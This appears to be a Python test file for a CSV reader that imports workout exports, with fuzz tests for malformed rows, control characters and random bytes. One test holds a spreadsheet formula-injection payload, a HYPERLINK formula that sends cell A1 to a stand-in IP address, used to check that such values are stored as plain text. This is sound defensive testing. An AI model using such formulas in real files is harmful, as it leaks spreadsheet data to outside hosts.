from datetime import UTC

from hypothesis import given, settings
from hypothesis import strategies as st

from tests.connectors.files.exports import (
    COLUMNS,
    NEW_YORK,
    NEXT_DAY,
    READER,
    export,
    only,
    read,
    reason,
)
from tests.thorough import most


def test_nul_bytes_and_control_characters_are_taken_out():
    activity = only(read({"title": "Low\x00er\x1b[31m A", "weight_kg": "1\x0000"}))

    assert activity.title == "Lower[31m A"
    assert activity.sets[0].load_kg == 100


def test_a_formula_is_a_text_like_any_other():
    formula = '=HYPERLINK("http://198.51.100.1/?"&A1,"more")'
    activity = only(read({"title": formula, "exercise_title": "@SUM(1+1)"}))

    assert activity.title == formula
    assert activity.sets[0].exercise == "@SUM(1+1)"
    assert reason({"reps": "=5+5"}) == "reps is no number: '=5+5'"


def test_a_lost_quotation_mark_costs_one_row():
    content = export({}, {"set_index": "1"}, {"set_index": "2"}, {"set_index": "3"})
    lines = content.decode().splitlines(keepends=True)
    lines[2] = lines[2].removesuffix('"\n') + "\n"
    contents = READER.read("".join(lines).encode(), "hevy.csv", UTC)

    (recording,) = contents.recordings
    assert [i.where for i in contents.issues] == ["hevy.csv, row 3"]
    assert len(recording.activity.sets) == 3


def test_thousands_of_bad_rows_do_not_drown_the_rest():
    contents = read(*[{"reps": "x"}] * 250, {})

    assert len(contents.recordings) == 1
    assert len(contents.issues) == 101
    assert contents.issues[-1].why == "150 more rows cannot be read"


GOOD = export(
    {}, {"set_index": "1", "exercise_notes": "two\nlines"}, NEXT_DAY, {"title": "B"}
)


@given(st.data())
@settings(max_examples=most(300, 60))
def test_no_mutation_stops_the_reader(data):
    content = GOOD
    for _ in range(data.draw(st.integers(1, 6))):
        at = data.draw(st.integers(0, len(content)))
        gone = data.draw(st.integers(0, 30))
        put = data.draw(st.sampled_from([b"", b'"', b"\n", b"\x00", b"\xff", b","]))
        content = content[:at] + put + content[at + gone :]

    contents = READER.read(content, "hevy.csv", NEW_YORK)

    sets = sum(len(r.activity.sets) for r in contents.recordings)
    assert sets or contents.issues
    assert all(r.activity.elapsed_s >= 0 for r in contents.recordings)


@given(st.lists(st.lists(st.text(max_size=12), min_size=14, max_size=14), max_size=5))
def test_any_text_in_any_cell_is_read_or_named(cells):
    rows = [dict(zip(COLUMNS, row, strict=True)) for row in cells]
    contents = read(*rows, {})

    kept = sum(len(r.activity.sets) for r in contents.recordings)
    blank = sum(not any(c.strip() for c in row.values()) for row in rows)
    assert kept + len(contents.issues) >= len(rows) + 1 - blank


@given(st.binary(max_size=300))
def test_any_bytes_get_an_answer(content):
    contents = READER.read(content, "x.csv", UTC)

    assert contents.recordings == ()
    assert len(contents.issues) == 1
